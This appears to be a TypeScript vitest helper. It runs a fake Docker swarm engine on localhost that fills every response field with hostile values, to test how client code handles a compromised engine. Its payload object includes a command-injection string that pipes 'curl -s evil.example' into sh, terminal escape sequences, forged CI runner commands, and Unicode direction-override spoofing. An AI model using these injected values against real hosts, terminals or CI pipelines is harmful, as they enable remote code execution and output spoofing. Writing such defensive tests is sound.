import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { onTestFinished } from 'vitest';

/**
 * Values that a compromised engine may report in any field: shell commands, control sequences of terminals and CI
 * runners, a reversed line.
 */
export const payload = {
  shell: '192.168.99.102;curl -s evil.example|sh #',
  terminal: 'a\u001B]52;c;ZXZpbA==\u0007\u001B[2J\u009B1A',
  lines: 'b\r\n::set-output name=evil::yes\n##[add-mask]evil',
  order: 'c\u202Etxt.exe\u2066\u200B\uFEFF\u2028d',
} as const;

export const everything = Object.values(payload).join(' ');

const NETWORK = 'f65940ce7f6940ce7f6940ce7';

export interface Lie {
  /** The address in the swarm, in the response to `docker info`. */
  readonly address: string;
  /** The value of all text fields. */
  readonly text: string;
  /** The value of all name fields. */
  readonly name: string;
}

/**
 * Starts a fake engine, the attacker of these tests: a manager of a swarm with arbitrary responses. Returns its URL.
 */
export async function startLyingEngine({ address, text, name }: Lie): Promise<string> {
  const network = {
    Name: name,
    Id: NETWORK,
    Driver: 'overlay',
    Scope: 'swarm',
    Attachable: true,
    Ingress: false,
    IPAM: { Config: [{ Subnet: '10.0.9.0/24', Gateway: text }] },
    Options: { 'com.docker.network.driver.overlay.vxlanid_list': text },
    Labels: { [text]: text },
    Containers: {},
    Peers: [{ IP: address }],
    Services: {
      [text]: {
        Tasks: [
          {
            Name: text,
            EndpointID: 'ab12',
            EndpointIP: '10.0.9.7',
            Info: { 'Host IP': address },
          },
        ],
      },
    },
  };
  const info = {
    ID: text,
    Name: name,
    ServerVersion: text,
    KernelVersion: text,
    OperatingSystem: text,
    Architecture: text,
    Driver: text,
    Labels: [text],
    Swarm: {
      LocalNodeState: 'active',
      NodeID: 'abc',
      NodeAddr: address,
      ControlAvailable: true,
      RemoteManagers: [],
    },
    ContainersRunning: 1,
    SystemTime: text,
    Warnings: [text],
    SystemStatus: [[text, text]],
  };
  const node = {
    ID: 'abc',
    Spec: { Role: 'worker', Availability: 'active', Labels: { [text]: text } },
    Description: { Hostname: text, Engine: { EngineVersion: text } },
    Status: { State: 'down', Message: text, Addr: address },
  };
  const answers: readonly (readonly [RegExp, unknown])[] = [
    [/\/info$/, info],
    [/\/version$/, { Version: '26.1.5', ApiVersion: '1.45', GoVersion: text, Os: 'linux' }],
    [/\/networks$/, [network]],
    [/\/networks\/\w/, network],
    [/\/nodes/, [node]],
    [/\/containers\/json/, []],
  ];
  const server = createServer((request, response) => {
    const path = request.url?.replace(/\?.*/, '') ?? '';
    const known = answers.find(([route]) => route.test(path));
    response.writeHead(known === undefined ? 500 : 200, { 'content-type': 'application/json' });
    response.end(JSON.stringify(known === undefined ? { message: text } : known[1]));
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  onTestFinished(() => void server.close());
  return `tcp://127.0.0.1:${(server.address() as AddressInfo).port}`;
}
